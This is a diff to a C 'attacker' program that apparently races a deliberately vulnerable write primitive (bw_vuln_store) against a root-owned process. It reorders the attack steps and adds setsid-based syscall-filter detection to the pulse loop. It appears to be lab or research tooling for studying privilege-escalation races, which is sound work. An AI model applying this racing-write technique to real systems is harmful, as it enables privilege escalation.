@@ -1,5 +1,6 @@
 /* The attacker: one store, and what may be led astray by it. */
 #define _GNU_SOURCE
+#include <errno.h>
 #include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -44,11 +45,11 @@ static void *new_page(void)
 /* A page that was never touched. */
 static void fault(void)
 {
-	void *page = new_page();
+	volatile uint64_t *page = new_page();
 
 	if (page != NULL) {
 		use_page(page);
-		*(volatile uint64_t *)page = 1;
+		*page = *page == 0 ? 1 : *page;
 	}
 }
 
@@ -209,24 +210,23 @@ static void act_visit(void)
 	board->is_visit_over = true;
 }
 
+/* Page faults first: what forks would have their pages. */
 static void act(void)
 {
-	if (board->order.acts & ACT_VISIT) {
-		board->act = ACT_VISIT;
-		act_visit();
-	}
-	static void (*const acts[])(void) = { act_calls, act_pages, act_pools,
-					      act_grant, act_fork,  act_exec };
+	static const struct {
+		enum act act;
+		void (*run)(void);
+	} acts[] = {
+		{ ACT_PAGES, act_pages }, { ACT_CALLS, act_calls },   { ACT_VISIT, act_visit },
+		{ ACT_POOLS, act_pools }, { ACT_GRANT, act_grant },   { ACT_FORK, act_fork },
+		{ ACT_EXEC, act_exec },   { ACT_POLICY, act_policy },
+	};
 
 	for (unsigned i = 0; i < sizeof(acts) / sizeof(acts[0]); i++) {
-		if (board->order.acts & 1u << i) {
-			board->act = 1u << i;
-			acts[i]();
+		if (board->order.acts & acts[i].act) {
+			board->act = acts[i].act;
+			acts[i].run();
 		}
-	}
-	if (board->order.acts & ACT_POLICY) {
-		board->act = ACT_POLICY;
-		act_policy();
 	}
 	board->act = ACT_STORE;
 }
@@ -279,18 +279,27 @@ static void spin(unsigned nr)
 	for (volatile unsigned i = 0; i < nr; i++) {}
 }
 
-/* Sets the word for moments, while root's process works. Blocks nowhere: so short are they. */
+/*
+ * Sets the word for moments, while root's process works. Blocks nowhere: so short are they. Ends at
+ * once where calls are not served as usual, by the rule of the program that root's process runs:
+ * that does not last.
+ */
 static void pulse(const struct store *store)
 {
 	uint64_t end = now_ms() + PULSE_MS;
+	int usual;
 
-	for (unsigned i = 0; is_awaited() && now_ms() < end; i++) {
+	(void)setsid();
+	errno = 0;
+	(void)setsid();
+	usual = errno;
+	for (unsigned i = 0; is_awaited() && now_ms() < end && errno == usual; i++) {
 		bw_vuln_store(store->address, store->value, store->size);
 		spin(i * SPIN_STEP % SPINS_MAX);
 		bw_vuln_store(store->address, store->old, store->size);
 		spin(SPINS_BETWEEN + i * SPIN_STEP % SPINS_MAX);
+		(void)setsid();
 	}
-	(void)getuid();
 }
 
 /* For what root's process does first. */
